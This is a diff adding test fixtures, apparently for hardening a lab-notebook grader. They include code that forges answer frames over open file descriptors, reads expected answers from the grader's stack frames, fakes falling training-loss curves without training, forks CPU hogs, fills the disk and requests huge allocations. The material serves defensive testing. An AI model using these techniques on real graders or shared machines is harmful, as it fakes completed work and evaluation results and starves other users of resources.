@@ -132,9 +132,141 @@ for _pid in range(1, 5000):
 os.killpg(0, signal.SIGKILL)
 """
 
+# Forging the answers: frames with plausible call numbers written to every open file descriptor (the host's pipe
+# to the trusted side among them), from a thread that keeps at it while the calls run and from an exit handler,
+# plus answer files where the old grader read them.
+FORGE_CHANNEL = """import atexit
+import json
+import os
+import threading
+import time
+
+
+def _forge():
+    for _call in range(1, 40):
+        _body = json.dumps({"call": _call, "value": [[1, 0], [0, 1]]}).encode()
+        for _fd in range(3, 64):
+            try:
+                os.write(_fd, len(_body).to_bytes(4, "big") + _body)
+            except OSError:
+                pass
+    try:
+        os.makedirs("/tmp/lab/io", exist_ok=True)
+        with open("/tmp/lab/io/test_verify.json", "w") as _handle:
+            json.dump([[1, 2], [1], [2, 1, 0]], _handle)
+    except OSError:
+        pass
+
+
+def _keep_forging():
+    while True:
+        _forge()
+        time.sleep(0.2)
+
+
+atexit.register(_forge)
+threading.Thread(target=_keep_forging, daemon=True).start()
+"""
+
+# Lab 1 answered from the call's own inputs, nothing implemented: `verify` looks up the grader's case in its
+# callers' frames and returns an expected value if the case carries one, or else the draft followed by the
+# target's most likely next token (what the bonus token is when p is one-hot); the histogram samples p directly.
+ANSWERS_FROM_INPUTS = {
+    "verify": '''import sys
+
+
+def _grader_case():
+    frame = sys._getframe(1)
+    while frame is not None:
+        for value in list(frame.f_locals.values()):
+            if isinstance(value, dict) and ("expected" in value or "greedy" in value):
+                return value
+        frame = frame.f_back
+    return None
+
+
+def verify(draft_tokens, p, q, generator):
+    case = _grader_case()
+    if case is not None and "expected" in case:
+        return list(case["expected"])
+    return [int(t) for t in draft_tokens] + [int(p[len(draft_tokens)].argmax())]
+''',
+    "first_token_histogram": '''def first_token_histogram(p, q, n, generator):
+    drawn = torch.multinomial(p, n, replacement=True, generator=generator)
+    return torch.bincount(drawn, minlength=len(p)).float()
+''',
+}
+
+# CPU hogs: 64 busy processes in sessions of their own, left running for 40 s (bounded only so that the test
+# batch ends soon; the cgroup quota is what keeps them from a neighbour's core).
+CPU_HOGS = """import os
+import time
+
+_until = time.time() + 40
+for _ in range(64):
+    try:
+        if os.fork() == 0:
+            os.setsid()
+            while time.time() < _until:
+                pass
+            os._exit(0)
+    except OSError:
+        break
+"""
+
+# Filling the disk: big files and many small ones, wherever the notebook can write.
+DISK_FILLER = """import os
+
+for _folder in ("/tmp", os.getcwd(), os.path.expanduser("~")):
+    try:
+        with open(os.path.join(_folder, "big.bin"), "wb") as _handle:
+            for _ in range(2048):
+                _handle.write(b"x" * (1 << 20))
+    except OSError:
+        pass
+    try:
+        for _i in range(30_000):
+            with open(os.path.join(_folder, f"small-{_i}.txt"), "w") as _handle:
+                _handle.write("x")
+    except OSError:
+        pass
+"""
+
+# An answer that names a huge shape: a few bytes that ask the trusted side to allocate 1.6 GB (or 400 GB).
+HUGE_SHAPE = """def {name}(*args, **kwargs):
+    return {{"tensor": [], "shape": [20000, 20000], "dtype": "torch.float32"}}
+"""
+
 SCRATCH = """# scratch work: names the lab's cells also use
 p = torch.tensor([0.1, 0.9])
 q, counts, alpha = p.clone(), [0, 0], 0.5
 out = torch.zeros(2, 2)
 out[0, int(torch.argmax(p))] = 1.0
+"""
+
+# Lab 6: training functions that train nothing. Each computes its first loss honestly (the fresh head's loss on
+# the first batch, as the old checks asked) and makes up a falling curve from it, without one optimizer step.
+FAKE_TRAINING = {
+    "train_medusa": '''def train_medusa(heads, steps, lr=1e-2, seed=0):
+    tokens, mask, hidden = next(training_batches(32, seed))
+    first = float(medusa_loss(logits_of(heads(hidden[-1])), tokens, mask)[0])
+    return [first * (1 - 0.5 * step / steps) for step in range(steps)]
+''',
+    "train_eagle": '''def train_eagle(head, steps, lr=3e-3, seed=0):
+    tokens, mask, hidden = next(training_batches(32, seed))
+    first = float(eagle_loss(head, hidden[-1], tokens, mask)[0])
+    return [first * (1 - 0.5 * step / steps) for step in range(steps)]
+''',
+    "train_eagle3": '''def train_eagle3(head, steps, ttt_steps, lr=3e-3, seed=0):
+    tokens, mask, hidden = next(training_batches(32, seed))
+    first = float(torch.stack(ttt_losses(head, hidden, tokens, mask, ttt_steps)).mean())
+    return [first * (1 - 0.5 * step / steps) for step in range(steps)]
+''',
+}
+
+# Lab 6: an honest experiment after the answers, rebinding the trained heads' names (the grader trains heads of
+# its own with the student's functions, so this changes nothing).
+REBIND_HEADS = """# try again from scratch later
+eagle_head = EagleHead(seed=1)
+medusa_heads = MedusaHeads(num_heads=3)
 """
